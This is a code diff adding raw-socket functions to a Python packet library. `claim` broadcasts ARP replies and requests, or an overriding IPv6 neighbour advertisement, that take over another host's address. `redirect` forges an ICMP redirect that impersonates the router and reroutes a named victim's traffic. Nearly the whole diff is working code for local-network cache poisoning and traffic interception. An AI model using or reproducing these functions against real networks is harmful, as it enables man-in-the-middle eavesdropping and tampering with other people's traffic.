@@ -37,6 +37,47 @@ def advertisement(source: str, prefix: str) -> bytes:
     return struct.pack("!IHBB", 6 << 28, len(body), _ICMP6, 255) + sender + receiver + body
 
 
+def claim(link: str, address: str, target: str) -> None:
+    """Say to everybody on a link, and to ``target``, that an address is ours: ARP's answers and requests, or a neighbour advertisement
+    that overrides what was known."""
+    own = bytes.fromhex(hardware_address(link).replace(":", ""))
+    claimed, asked = ip_address(address).packed, ip_address(target).packed
+    if len(claimed) == 4:
+        for operation in (1, 2):
+            head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
+            send_frame(link, b"\xff" * 6, own, 0x0806, head + own + claimed + bytes(6) + asked)
+        return
+    receiver = ip_address("ff02::1").packed
+    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + claimed + b"\x02\x01" + own
+    _send_icmp6(link, own, claimed, receiver, body)
+
+
+def redirect(link: str, router: str, victim: str, target: str, better: str) -> None:
+    """As the router: what ``victim`` sends to ``target`` goes by ``better`` from now on (RFC 792)."""
+    own = bytes.fromhex(hardware_address(link).replace(":", ""))
+    told = datagram(victim, target, 9, b"")
+    body = struct.pack("!BBH", 5, 1, 0) + ip_address(better).packed + told
+    body = body[:2] + struct.pack("!H", _checksum(body)) + body[4:]
+    addresses = ip_address(router).packed + ip_address(victim).packed
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0) + addresses
+    head = head[:10] + struct.pack("!H", _checksum(head)) + head[12:]
+    send_frame(link, b"\xff" * 6, own, 0x0800, head + body)
+
+
+def send_frame(link: str, target: bytes, source: bytes, kind: int, payload: bytes) -> None:
+    """Put a frame on a link, with whatever hardware addresses."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind((link, 0))
+        raw.send(target + source + struct.pack("!H", kind) + payload.ljust(46, b"\0"))
+
+
+def _send_icmp6(link: str, own: bytes, sender: bytes, receiver: bytes, body: bytes) -> None:
+    pseudo = sender + receiver + struct.pack("!II", len(body), _ICMP6)
+    body = body[:2] + struct.pack("!H", _checksum(pseudo + body)) + body[4:]
+    packet = struct.pack("!IHBB", 6 << 28, len(body), _ICMP6, 255) + sender + receiver + body
+    send_frame(link, bytes.fromhex("333300000001"), own, 0x86DD, packet)
+
+
 def send(link: str, hardware_address: str, packet: bytes) -> None:
     """Put a packet on a link, for the neighbour with this hardware address."""
     kind = 0x86DD if packet[0] >> 4 == 6 else 0x0800
